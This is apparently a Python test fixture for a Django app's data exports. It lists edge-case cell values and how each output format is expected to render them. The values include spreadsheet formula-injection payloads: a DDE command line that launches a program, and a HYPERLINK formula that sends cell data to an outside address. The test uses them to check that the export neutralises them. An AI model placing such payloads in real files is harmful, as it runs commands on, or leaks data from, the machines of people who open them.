"""Everything that docs/exports.md names as odd, as rows of a dataset, with what each format is to make of it."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

from django.db.models import QuerySet

from exports.columns import Column
from exports.kinds import Kind
from exports.registry import Dataset, register_dataset, unregister_dataset
from exports.resources import DatasetResource
from exports.tests.support import make_entries
from tenants.models import AuditEntry, Tenant

MAX_CELL = 32_767


@dataclass(frozen=True, slots=True)
class Text:
    """What somebody wrote, and the same in CSV, in Excel, in XML; JSON and YAML have it as `kept`."""

    written: str | None
    csv: str
    excel: str | None
    xml: str
    kept: str | None


def same(text: str) -> Text:
    return Text(text, text, text, text, text)


def formula(text: str) -> Text:
    """Text in a workbook is never run, and programs run nothing."""
    return Text(text, "'" + text, text, text, text)


def cleaned(text: str, clean: str, kept: str | None = None) -> Text:
    return Text(text, clean, clean, clean, text if kept is None else kept)


def long(text: str, cut: str) -> Text:
    return Text(text, text, cut, text, text)


TEXTS = [
    formula("=cmd|' /C calc'!A0"),
    formula('=HYPERLINK("http://192.0.2.1/?"&A1,"Click")'),
    formula("=1+1"),
    formula("+1+1"),
    formula("-2+3"),
    formula("@SUM(1,2)"),
    formula("\t=1"),
    formula("\r=1"),
    formula("\n=1"),
    formula("＝1"),
    formula("'=1"),
    cleaned("\x00a\x00b", "ab"),
    cleaned("a\x01\x07\x0b\x1e\x1fb", "ab"),
    Text("\x00=1", "'=1", "=1", "=1", "\x00=1"),
    cleaned("a\ud800b", "a\ufffdb", "a\ufffdb"),
    cleaned("\udcff\ud83d", "\ufffd\ufffd", "\ufffd\ufffd"),
    long("x" * MAX_CELL, "x" * MAX_CELL),
    long("x" * (MAX_CELL + 1), "x" * (MAX_CELL - 1) + "…"),
    long("я" * 40_000, "я" * (MAX_CELL - 1) + "…"),
    long("🙂" * 20_000, "🙂" * 16_383 + "…"),
    same("Ёлка ў ґ «кавычки» — ₽ № 1"),
    same("🙂👩‍👩‍👧 é 漢字"),
    same("two\nlines"),
    same("Windows\r\nlines"),
    same("old\rlines"),
    same("tab\tinside"),
    same('a "quoted" word'),
    same('"'),
    same("a,b;c|d"),
    same("]]> <b>&amp;</b> <!-- -->"),
    same("  spaces around  "),
    same("007"),
    same("12345678901234567890"),
    same("1E5"),
    same("yes: no # - [x] {y} %z"),
    same("null"),
    same("2026-01-31"),
    Text("", "", None, "", ""),
    Text(None, "", None, "", None),
]
# Number and moment of each row: as they are, and as a workbook has them where that is another value.
NUMBERS = [
    Decimal("12.5"), Decimal("-0.000001"), Decimal("999999999999999"), Decimal("1234567890123456"),
    Decimal("123456789012345678.90"), Decimal("-99999999999999999999.01"), None,
]  # fmt: skip
INTEGERS = [0, -5, 999_999_999_999_999, 10**15 + 1, 2**63 - 1, -(2**63), None]
MOMENTS = [
    datetime(2026, 1, 31, 9, 5, 7, tzinfo=UTC), datetime(1900, 3, 1, tzinfo=UTC), datetime(1900, 2, 28, 12, tzinfo=UTC),
    datetime(1899, 12, 31, 23, 59, 59, tzinfo=UTC), datetime(1812, 9, 7, tzinfo=UTC), None, datetime(9999, 12, 31, tzinfo=UTC),
]  # fmt: skip
DAYS = [moment and moment.date() for moment in MOMENTS]
FIRST_DAY = date(1900, 3, 1)


def numbered(values: list[Any], entry: AuditEntry) -> Any:
    return values[int(entry.object_id) % len(values)]


class OddResource(DatasetResource):
    number = Column("Number", attribute="object_id")
    text = Column("Text")
    amount = Column("Amount", kind=Kind.DECIMAL)
    count = Column("Count", kind=Kind.INTEGER)
    at = Column("At", kind=Kind.DATETIME)
    day = Column("Day", kind=Kind.DATE)
    last = Column("Last", attribute="actor")
    broken = Column("Broken promise", kind=Kind.INTEGER, is_default=False)

    class Meta:
        model = AuditEntry

    @classmethod
    def rows(cls) -> QuerySet[Any]:
        """Asking is audited, too, by the system."""
        return super().rows().filter(actor_kind="person")

    def dehydrate_text(self, entry: AuditEntry) -> str | None:
        text: Text = numbered(TEXTS, entry)
        return text.written

    def dehydrate_amount(self, entry: AuditEntry) -> Any:
        return numbered(NUMBERS, entry)

    def dehydrate_count(self, entry: AuditEntry) -> Any:
        return numbered(INTEGERS, entry)

    def dehydrate_at(self, entry: AuditEntry) -> Any:
        return numbered(MOMENTS, entry)

    def dehydrate_day(self, entry: AuditEntry) -> Any:
        return numbered(DAYS, entry)

    def dehydrate_broken(self, entry: AuditEntry) -> str:
        return "no number"


ODD = Dataset(name="odd", title="Odd", resource=OddResource, order=("id",))


@contextmanager
def odd_rows(tenant: Tenant) -> Iterator[None]:
    """The dataset, with a row for each text, in their order, and one column that is always `anna` at the end."""
    register_dataset(ODD)
    try:
        for at in range(len(TEXTS)):
            make_entries(tenant, 1, object_id=str(at))
        yield
    finally:
        unregister_dataset(ODD.name)
